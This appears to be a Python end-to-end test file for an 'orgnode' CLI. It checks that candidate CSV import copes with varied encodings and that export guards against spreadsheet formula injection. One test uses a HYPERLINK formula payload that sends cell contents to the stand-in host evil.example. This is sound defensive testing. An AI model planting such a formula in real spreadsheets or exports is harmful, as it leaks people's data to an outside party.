"""`candidate import` and `candidate export` with files as real spreadsheets save them (issue 12 item 2).

Real `orgnode run` processes and real `orgnode` commands: UTF-16 (Excel's "Unicode text", tab
separated), Windows-1252 with semicolons (older European Excel), UTF-8 with a BOM, an .xlsx saved
by mistake (a zip); header aliases and --map; internationalised addresses; counts and exit codes;
errors naming the file's columns, never CLI options; an export that is safe to open in a spreadsheet
and imports into another node as the same candidates.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import subprocess
from pathlib import Path
from typing import Any

from tests.config_files import update_config
from tests.conftest import free_port
from tests.e2e.cli_helpers import orgnode, start_node


def run(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return orgnode("--home", str(home), *args, check=False)


def js(home: Path, *args: str) -> Any:
    result = orgnode("--home", str(home), *args, "--json")
    return json.loads(result.stdout)


def init(home: Path, name: str) -> None:
    js(home, "init", "--name", name, "--sector", "nonprofit", "--listen", f"127.0.0.1:{free_port()}")
    update_config(home, lan_discovery=False, allow_private_peers=True)


def emails(home: Path) -> set[str]:
    return {c["email"] for c in js(home, "candidate", "list", "--all")}


def no_flags(text: str) -> None:
    """Row errors speak of the file's columns, never of command-line options."""
    for flag in ("--email", "--name", "--skills", "--phone", "--consent"):
        assert flag not in text, text


def test_import_files_as_spreadsheets_save_them(tmp_path: Path) -> None:
    home = tmp_path / "youth"
    init(home, "Youth Futures")
    proc = start_node(home)
    try:
        # UTF-16 LE with BOM, tab separated, first + last name, an internationalised address and domain.
        utf16 = tmp_path / "unicode.txt"
        utf16.write_bytes(codecs.BOM_UTF16_LE + ("First Name\tLast Name\tE-Mail\tMobile\tCompetences\r\n"
                                                 "José\tNúñez\tjosé@example.es\t+34 600 000 001\tcocina, inglés\r\n"
                                                 "Jürgen\tBär\tinfo@bücher.de\t\tforklift\r\n").encode("utf-16-le"))
        result = run(home, "candidate", "import", str(utf16))
        assert result.returncode == 0, (result.stdout, result.stderr)
        assert "Imported 2 of 2 candidate row(s)." in result.stdout and "1252" not in result.stderr
        # Windows-1252, semicolons, "Email Address" / "Telephone" / "Skills" headers.
        cp1252 = tmp_path / "excel-de.csv"
        cp1252.write_bytes("Name;Email Address;Telephone;Skills\r\nRenée Größ;renee@example.de;+49 30 123456;Pflege; Küche\r\n"
                           .replace("Pflege; Küche", "\"Pflege; Küche\"").encode("cp1252"))
        result = run(home, "candidate", "import", str(cp1252))
        assert result.returncode == 0, (result.stdout, result.stderr)
        assert "Imported 1 of 1 candidate row(s)." in result.stdout
        assert "warning: the file is not UTF-8: read it as Windows-1252" in result.stderr
        # UTF-8 with BOM, comma separated, an unknown column: a warning, exit 0.
        bom = tmp_path / "bom.csv"
        bom.write_bytes(codecs.BOM_UTF8 + b"e_mail,Full Name,SKILLS,Shoe size\r\nola@example.org,Ola Nordmann,excel,44\r\n")
        result = run(home, "candidate", "import", str(bom))
        assert result.returncode == 0, (result.stdout, result.stderr)
        assert "warning: row 1: column(s) D have an unknown or empty name and are ignored" in result.stderr
        assert "give --map COLUMN=FIELD" in result.stderr  # the CLI says how to read it
        listed = {c["email"]: c for c in js(home, "candidate", "list", "--all")}
        assert listed["josé@example.es"]["name"] == "José Núñez" and listed["josé@example.es"]["skills"] == ["cocina", "inglés"]
        assert listed["info@bücher.de"]["name"] == "Jürgen Bär"
        assert listed["renee@example.de"]["name"] == "Renée Größ" and listed["renee@example.de"]["skills"] == ["Pflege", "Küche"]
        assert listed["ola@example.org"]["name"] == "Ola Nordmann"
        held = set(listed)

        # An .xlsx picked by mistake: refused as a binary file, nothing recorded.
        xlsx = tmp_path / "candidates.xlsx"
        xlsx.write_bytes(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\xa1\xb2[Content_Types].xml" + bytes(range(256)) * 8)
        result = run(home, "candidate", "import", str(xlsx))
        assert result.returncode == 1 and "Traceback" not in result.stderr
        assert "this looks like a binary file (a zip archive (an .xlsx or .ods spreadsheet is one)), not CSV text" in result.stderr
        assert "save it as CSV" in result.stderr
        assert "1252" not in result.stderr
        assert emails(home) == held

        # --map: a column under a name no alias knows; an unknown field and an unknown column named with the known ones.
        mapped = tmp_path / "mapped.csv"
        mapped.write_text("Kandidat;Mail;Kenntnisse\nAda Quist;ada@example.org;driving\n")
        result = run(home, "candidate", "import", str(mapped), "--map", "Kandidat=skills", "--map", "Kenntnisse=skils")
        assert result.returncode == 1 and "unknown field 'skils' (known fields: name, first_name" in result.stderr
        result = run(home, "candidate", "import", str(mapped), "--map", "Kompetenz=skills")
        assert result.returncode == 1 and "the file has no column 'kompetenz'; its columns are A, B (Mail), C" in result.stderr
        assert emails(home) == held
        result = run(home, "candidate", "import", str(mapped), "--map", "Kandidat=name", "--map", "kenntnisse=skills")
        assert result.returncode == 0 and "Imported 1 of 1" in result.stdout, (result.stdout, result.stderr)

        # Rows refused (by the file's rules and by the node's): counts agree, exit 1, the file's column names.
        mixed = tmp_path / "mixed.csv"
        mixed.write_text("Name,E-Mail,Skills\nNew Person,new@example.org,care\nAgain,OLA@example.org,excel\n"
                         "Bad Mail,bad@@example.org,care\n")
        result = run(home, "candidate", "import", str(mixed))
        assert result.returncode == 1, (result.stdout, result.stderr)
        assert "Imported 1 of 3 candidate row(s); 2 row(s) refused:" in result.stdout
        assert "row 3 (E-Mail): a candidate with this email address is already recorded here" in result.stdout
        assert "row 4 (E-Mail): is not a valid address" in result.stdout
        assert "import a file holding only them (with the header line)" in result.stdout  # what to do next
        assert "1/1 valid row(s) sent, 1 imported" not in result.stderr and "2/2 valid row(s) sent, 1 imported" in result.stderr
        no_flags(result.stdout + result.stderr)
        report = json.loads(run(home, "candidate", "import", str(mixed), "--json").stdout)
        assert (report["imported"], report["refused"], report["total"]) == (0, 3, 3)
        assert {(e["row"], e["column"], e["field"]) for e in report["errors"]} == {
            (2, "E-Mail", "email"), (3, "E-Mail", "email"), (4, "E-Mail", "email")}
    finally:
        proc.terminate()
        proc.wait(timeout=20)


FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_export_is_formula_safe_and_round_trips_to_another_node(tmp_path: Path) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    init(a, "Youth Futures")
    init(b, "Green Works")
    procs = [start_node(a), start_node(b)]
    try:
        js(a, "candidate", "add", "--name", FORMULA_NAME, "--email", "mallory@example.org", "--skills", "@SUM(1+1), care",
           "--phone", "+44 20 7946 0958", "--location=-Leeds", "--notes", "+1 from the fair")
        js(a, "candidate", "add", "--name", "Amina Diallo", "--email", "amina@exämple.org", "--skills", "forklift, excel",
           "--medal", "silver", "--for-job", "Team lead", "--consent", "match,refer", "--consent-scope", "sector:nonprofit",
           "--consent-expires", "2099-03-31", "--consent-evidence", "signed form v3; by email")
        erased = js(a, "candidate", "add", "--name", "Erased Person", "--email", "erased@example.org", "--skills", "x")["candidate_id"]
        js(a, "candidate", "erase", erased, "--yes")

        out = a / "export.csv"
        summary = js(a, "candidate", "export", "--output", str(out))
        assert summary == {"exported": 2, "output": str(out)}
        assert out.stat().st_mode & 0o777 == 0o600
        raw = out.read_bytes()
        assert raw.startswith(codecs.BOM_UTF8)
        text = raw.decode("utf-8-sig")
        assert "Erased" not in text and "erased@" not in text
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells  # nothing a spreadsheet runs
        assert "'" + FORMULA_NAME in cells and "'+44 20 7946 0958" in cells and "'-Leeds" in cells
        stdout = run(a, "candidate", "export")
        assert stdout.returncode == 0 and stdout.stdout.replace("\r\n", "\n") == text.replace("\r\n", "\n")

        result = run(b, "candidate", "import", str(out))
        assert result.returncode == 0, (result.stdout, result.stderr)
        assert "Imported 2 of 2 candidate row(s)." in result.stdout

        def same(home: Path) -> list[tuple[Any, ...]]:
            return sorted((c["name"], c["email"], c["phone"], c["location"], tuple(c["skills"]), c["medal"], c["for_job"],
                           c["notes"], tuple((tuple(k["purposes"]), tuple(k["scope"]), k["expires_at"], k["evidence"], k["state"])
                                             for k in c["consents"]))
                          for c in js(home, "candidate", "list", "--all"))

        assert same(b) == same(a) and len(same(b)) == 2
        assert FORMULA_NAME in {row[0] for row in same(b)}  # the guard is undone on import: the data is unchanged
        assert js(a, "candidate", "export", "--output", str(b / "again.csv"))["exported"] == 2
        assert "give --output FILE" in run(a, "candidate", "export", "--json").stdout  # the JSON error object (docs/cli.md "JSON conventions")
    finally:
        for proc in procs:
            proc.terminate()
            proc.wait(timeout=20)
